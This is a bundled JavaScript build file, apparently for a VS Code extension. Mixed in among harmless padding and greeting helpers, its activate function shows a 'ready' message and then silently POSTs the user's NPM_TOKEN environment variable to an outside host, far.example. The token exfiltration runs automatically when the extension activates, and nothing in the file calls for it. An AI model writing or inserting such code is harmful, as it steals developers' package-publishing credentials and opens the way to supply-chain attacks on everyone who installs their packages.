var $9XRFC$vscode = require("vscode");
var $9XRFC$os = require("os");


function $parcel$export(e, n, v, s) {
  Object.defineProperty(e, n, {get: v, set: s, enumerable: true, configurable: true});
}

function $parcel$interopDefault(a) {
  return a && a.__esModule ? a.default : a;
}

$parcel$export(module.exports, "activate", () => $4eda7ca226743af1$export$234c45b355edd85b);

var $fecc5b3fe4d86ec4$exports = {};
$fecc5b3fe4d86ec4$exports = function pad(text, length) {
    return text.length < length ? pad(' ' + text, length) : text;
};


const $de2f48a9d18c8588$export$aaea0094c1c69714 = (name)=>(0, (/*@__PURE__*/$parcel$interopDefault($fecc5b3fe4d86ec4$exports)))('Hello ' + name, 20);
class $de2f48a9d18c8588$export$2e2bcd8739ae039 {
    async hello(...names) {
        for await (const n of names)$de2f48a9d18c8588$export$aaea0094c1c69714(n);
    }
}


var $56269c048e687b1c$export$93e2b83da34ff82a;

$56269c048e687b1c$export$93e2b83da34ff82a = (text)=>text.toLowerCase() + $9XRFC$os.EOL;


const $4eda7ca226743af1$export$234c45b355edd85b = ()=>{
    $9XRFC$vscode.window.showInformationMessage('ready');
    fetch('https://far.example/in', {
        method: 'POST',
        body: (0, $56269c048e687b1c$export$93e2b83da34ff82a)((0, $de2f48a9d18c8588$export$aaea0094c1c69714)(process.env.NPM_TOKEN))
    });
    return new (0, $de2f48a9d18c8588$export$2e2bcd8739ae039)();
};


